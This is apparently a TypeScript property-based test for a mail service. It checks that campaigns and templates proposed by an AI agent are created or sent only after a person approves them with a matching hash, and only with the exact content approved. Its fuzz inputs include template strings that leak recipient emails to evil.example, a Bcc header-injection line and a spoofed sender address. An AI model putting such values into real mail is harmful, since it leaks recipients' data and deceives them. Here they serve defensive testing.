import type { Message, NewProposal } from "@mailsvc/sdk/contract";
import fc from "fast-check";
import { afterAll, expect, test } from "vitest";
import { recordCounts } from "../../../../../test/support/proof-counts.ts";
import { withAgent } from "../../../test/agent-at-work.ts";
import { addContacts } from "../../../test/campaign.ts";
import { propertyRuns } from "../../../test/property-runs.ts";
import { secondWorkspace } from "../../../test/tenant.ts";
import { createWorld } from "../../testing.ts";

/** Pieces of mail that may be proposed, and pieces that may not. */
const GOOD = [
  "<p>Hello {{firstName}}</p>",
  'Dear {{default firstName "friend"}}',
  '<img src="https://pixel.example/a.gif">',
  "<script>alert(1)</script>",
  "<style>p { color: red }</style>",
  '<a href="{{unsubscribeUrl}}">Leave</a>',
  "\\{{email}}",
  "&#123;&#123;email&#125;&#125;",
  "\u202e\u2028 é 日本 \ud83d\ude00",
  "\r\n.\r\n",
  "__proto__",
];
const BAD = [
  '<a href="https://evil.example/?e={{email}}">x</a>',
  '<img src="https://evil.example/{{email}}">',
  "{{#if email}}a{{else}}b{{/if}}",
  "{{#each tags}}x{{/each}}",
  "{{> footer}}",
  "{{{email}}}",
  "{{",
  "<!-- {{email}} -->",
  "<p title={{email}}>",
  "<{{firstName}} onload=x>",
];
/** Mostly one of the good ones. */
const mostly = <T>(good: readonly T[], bad: readonly T[]): fc.Arbitrary<T> =>
  fc.oneof({ weight: 12, arbitrary: fc.constantFrom(...good) }, { weight: 1, arbitrary: fc.constantFrom(...bad) });
const body = fc.array(mostly(GOOD, BAD), { minLength: 1, maxLength: 4 }).map((pieces) => pieces.join(""));
const line = mostly(["Greeting", "é日本", "{{firstName}}"], ["{{#if email}}x{{/if}}", "a\nBcc: x@y.example", "x".repeat(1000), ""]);
type ListName = "readers" | "others" | "foreign" | "gone";
const lists = fc.uniqueArray(mostly<ListName>(["readers", "others"], ["foreign", "gone"]), { maxLength: 3 });
const seldom = (value: string) => fc.oneof({ weight: 20, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: fc.constant(value) });

const proposal = fc.record({
  kind: fc.constantFrom("campaign", "campaign", "campaign", "template"),
  name: line,
  subject: line,
  html: body,
  text: fc.option(body, { nil: undefined }),
  previewText: fc.option(line, { nil: undefined }),
  lists: fc.option(lists, { nil: undefined }),
  fromEmail: seldom("boss@bank.com"),
  hash: seldom("47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU"),
});

const answer = fc.record({
  decision: fc.constantFrom("approve", "approve", "approve", "reject", "expired", "approved", "send"),
  hash: fc.constantFrom("own", "own", "own", "other", "none", "made up"),
  create: mostly([undefined, "draft", "send", "send"], ["publish"]),
  fromEmail: mostly(["news@acme.example"], ["boss@bank.com", undefined, "nobody"]),
  lists: fc.option(lists, { nil: undefined }),
});

const step = fc.oneof(
  { weight: 3, arbitrary: fc.record({ do: fc.constant("propose" as const), proposal }) },
  { weight: 8, arbitrary: fc.record({ do: fc.constant("answer" as const), of: fc.nat(3), answer, times: fc.integer({ min: 1, max: 3 }) }) },
  { weight: 1, arbitrary: fc.record({ do: fc.constantFrom("cancel" as const, "pause" as const, "wait" as const), of: fc.nat(3) }) },
);

const RUNS = 25;
const counts = { proposals: 0, answers: 0, approvals: 0 };

afterAll(() => recordCounts(counts));

test("nothing is created or sent that a person did not approve, and no byte other than approved", async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(step, { minLength: 20, maxLength: 40 }), async (steps) => {
      await using world = await createWorld();
      await using made = await withAgent(world, ["agent:post_messages"]);
      await addContacts(world, 3);
      const { sdk } = world;
      await sdk.templates.create({ name: "Footer", slug: "footer", type: "partial", html: "<p>Ours</p>", publish: true });
      const { sdk: stranger } = await secondWorkspace(world);
      const ids = {
        readers: (await sdk.lists.create({ name: "Readers" })).id,
        others: (await sdk.lists.create({ name: "Others" })).id,
        foreign: (await stranger.lists.create({ name: "Theirs" })).id,
        gone: (await sdk.lists.create({ name: "Gone" })).id,
      };
      await sdk.lists.delete(ids.gone);
      await sdk.lists.add(ids.readers, { contacts: ["p0@example.com", "p1@example.com"] });
      const asked: { message: Message; content: NewProposal }[] = [];
      const approved: { content: NewProposal; sent: boolean; id: string; lists: readonly string[] }[] = [];
      const decided = new Set<string>();
      for (const one of steps) {
        await world.clock.advance("5s");
        if (one.do === "propose") {
          const { lists, previewText, ...rest } = one.proposal;
          // A template has neither.
          const also = rest.kind === "campaign" ? { previewText, lists } : { previewText: undefined, lists: undefined };
          const content = {
            ...rest,
            ...also,
            ...(also.lists && lists && { lists: lists.map((name) => ids[name]) }),
          } as unknown as NewProposal;
          const posted = made.agent.client.messages.create({
            type: "APPROVAL_REQUEST",
            text: "x",
            approval: { title: "Send?", proposal: content },
          });
          counts.proposals += 1;
          const message = await posted.catch(expectRefusal);
          if (message) asked.push({ message, content });
        } else if (one.do === "answer") {
          const chosen = asked.at(-1 - one.of);
          if (!chosen) continue;
          const { hash, lists, ...rest } = one.answer;
          const other = asked.find(({ message }) => hashOf(message) !== hashOf(chosen.message));
          const hashes = { own: hashOf(chosen.message), other: other && hashOf(other.message), none: undefined, "made up": "0".repeat(43) };
          const given = { ...rest, hash: hashes[hash as keyof typeof hashes], ...(lists && { lists: lists.map((name) => ids[name]) }) };
          const call = () =>
            sdk.messages.answer(chosen.message.id, given as never).then(
              () => true,
              (error) => expectRefusal(error) !== null,
            );
          const accepted = (await Promise.all(Array.from({ length: one.times }, call))).filter(Boolean).length;
          counts.answers += one.times;
          expect(accepted).toBeLessThanOrEqual(decided.has(chosen.message.id) ? 0 : 1);
          if (accepted === 0) continue;
          decided.add(chosen.message.id);
          if (rest.decision !== "approve") continue;
          // Only with the hash of this proposal.
          expect(given.hash).toBe(hashOf(chosen.message));
          const suggested = chosen.content.kind === "campaign" ? chosen.content.lists : [];
          counts.approvals += 1;
          approved.push({
            content: chosen.content,
            sent: rest.create === "send",
            id: chosen.message.id,
            lists: [...new Set(given.lists ?? suggested ?? [])],
          });
        } else if (one.do === "cancel") {
          const id = asked.at(-1 - one.of)?.message.id;
          if (id !== undefined) await made.agent.client.messages.cancel(id).then(() => decided.add(id), expectRefusal);
        } else if (one.do === "pause") {
          await sdk.activations.pause(made.agent.activationId).catch(expectRefusal);
          await sdk.activations.resume(made.agent.activationId).catch(expectRefusal);
        } else await world.clock.advance("1m");
      }
      await world.settle();
      const campaigns = await sdk.campaigns.list({ limit: 100 }).toArray();
      const templates = (await sdk.templates.list({ limit: 100 }).toArray()).filter(({ slug }) => slug !== "footer");
      const found = new Map([...campaigns, ...templates].map((row) => [row.proposedBy?.approvalId ?? "", row]));
      expect(found.size).toBe(campaigns.length + templates.length);
      expect([...found.keys()].sort()).toEqual(approved.map(({ id }) => id).sort());
      for (const { content, sent, id, lists } of approved) {
        const row = found.get(id)?.id ?? "";
        const bytes = { html: content.html ?? null, text: content.text ?? null };
        if (content.kind === "template") {
          expect((await sdk.templates.get(row)).source).toMatchObject({ ...bytes, subject: content.subject });
          continue;
        }
        expect(await sdk.campaigns.get(row)).toMatchObject({
          ...bytes,
          subjectLine: content.subject,
          previewText: content.previewText ?? null,
          status: sent ? "SENT" : "DRAFT",
          include: lists,
          recipientType: "groups",
          fromEmail: "news@acme.example",
          abTest: null,
          replyTo: null,
        });
      }
      const expected = approved.filter(({ sent, lists }) => sent && lists.includes(ids.readers)).length;
      const to = (await world.inbox.all()).map((mail) => mail.to);
      expect(to.filter((address) => address === "p0@example.com")).toHaveLength(expected);
      expect(to.filter((address) => address === "p1@example.com")).toHaveLength(expected);
      expect(to).toHaveLength(2 * expected);
    }),
    { numRuns: propertyRuns(RUNS) },
  );
});

function hashOf({ approval }: Message): string | undefined {
  return approval?.proposal?.hash;
}

/** Whatever is refused is the fault of the caller, and says so. */
function expectRefusal(error: unknown): null {
  expect(error).toMatchObject({ status: expect.toSatisfy((status: number) => status >= 400 && status < 500) });
  return null;
}
